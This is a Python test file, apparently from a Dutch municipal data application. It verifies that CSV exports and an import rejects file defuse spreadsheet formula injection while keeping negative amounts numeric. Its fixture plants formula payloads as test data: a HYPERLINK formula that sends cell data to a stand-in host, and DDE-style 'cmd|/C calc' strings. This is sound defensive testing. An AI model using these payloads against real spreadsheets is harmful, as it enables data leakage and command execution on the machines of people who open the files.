"""Finding 4 of issue 22: no exported CSV cell starts a formula when Dutch Excel opens it.

A name such as ``=HYPERLINK("http://kwaad.example","Klik")`` must arrive in Excel as text, in
every CSV werkpad writes (analytics extract, import folder, SRG delivery, the import's rejects
file), while numbers such as ``-12,50`` stay numbers.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
import sqlalchemy as sa

from werkpad.exporting import export_analytics
from werkpad.exporting.folder import export_folder
from werkpad.exporting.srg import SrgDelivery, export_srg
from werkpad.importing import EXAMPLE_FOLDER, import_folder
from werkpad.importing.errors import RowError, write_rejects
from werkpad.store.db import make_engine

FORMULA = '=HYPERLINK("http://kwaad.example/?d="&A1,"Klik")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(path: Path, delimiter: str, encoding: str = "utf-8") -> list[str]:
    with path.open(encoding=encoding, newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]


def formula_cells(values: list[str]) -> list[str]:
    """Cells Excel would evaluate: starting with a trigger and not a plain number."""
    return [v for v in values if v.startswith(TRIGGERS) and not _numeric(v)]


def _numeric(value: str) -> bool:
    return value.lstrip("+-").replace(".", "").replace(",", "").isdigit()


@pytest.fixture
def planted(sqlite_url: str) -> str:
    """The example municipality with formulas in a team name, a surname and a source id."""
    import_folder(sqlite_url, EXAMPLE_FOLDER)
    engine = make_engine(sqlite_url)
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE team SET name = :f WHERE id = 1"), {"f": FORMULA})
        conn.execute(sa.text("UPDATE candidate SET last_name = '@SUM(1+1)*cmd|'' /C calc''!A0'"))
        conn.execute(sa.text("UPDATE provider SET name = '+1+cmd|''/C calc''!A0' || id"))
        conn.execute(sa.text("UPDATE provision SET source_id = '-2+3+cmd' WHERE source_id='V002'"))
    engine.dispose()
    return sqlite_url


def test_analytics_csv_turns_a_formula_team_name_into_text(planted, tmp_path):
    export_analytics(make_engine(planted), tmp_path, b"k" * 40, formats=["csv"])
    teams = cells(tmp_path / "teams.csv", ",")
    assert "'" + FORMULA in teams
    assert formula_cells(teams + cells(tmp_path / "providers.csv", ",")) == []


def test_analytics_csv_keeps_negative_numbers_numbers(planted, tmp_path):
    engine = make_engine(planted)
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE cost_line SET amount = -12.50"))
    export_analytics(engine, tmp_path, b"k" * 40, formats=["csv"])
    amounts = [row["amount"] for row in csv.DictReader((tmp_path / "cost_lines.csv").open())]
    assert amounts and set(amounts) == {"-12.50"}


def test_import_folder_export_turns_formula_names_into_text(planted, tmp_path):
    export_folder(planted, tmp_path / "map")
    every = [c for p in (tmp_path / "map").glob("*.csv") for c in cells(p, ";")]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in every
    assert formula_cells(every) == []


def test_srg_delivery_turns_a_formula_registration_number_into_text(planted, tmp_path):
    path = tmp_path / "srg.csv"
    export_srg(make_engine(planted), SrgDelivery(2019, 10, "0518", "0001"), path)
    values = cells(path, ";")
    assert "'-2+3+cmd" in values
    assert formula_cells(values) == []


def test_rejects_file_for_dutch_excel_neutralises_formulas_but_keeps_numbers(tmp_path):
    errors = [
        RowError("persons.csv", 2, "last_name", "verplicht veld", FORMULA),
        RowError("persons.csv", 3, "first_name", "te lang", "\t=1+1"),
        RowError("benefits.csv", 4, "monthly_amount", "negatief bedrag", "-12,50"),
        RowError("benefits.csv", 5, "monthly_amount", "te hoog", "-1.234,56"),
    ]
    path = write_rejects(errors, tmp_path / "afgekeurd.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM and ';': what Dutch Excel opens
    values = cells(path, ";", "utf-8-sig")
    assert "'" + FORMULA in values and "'\t=1+1" in values
    assert "-12,50" in values and "-1.234,56" in values
    assert formula_cells(values) == []
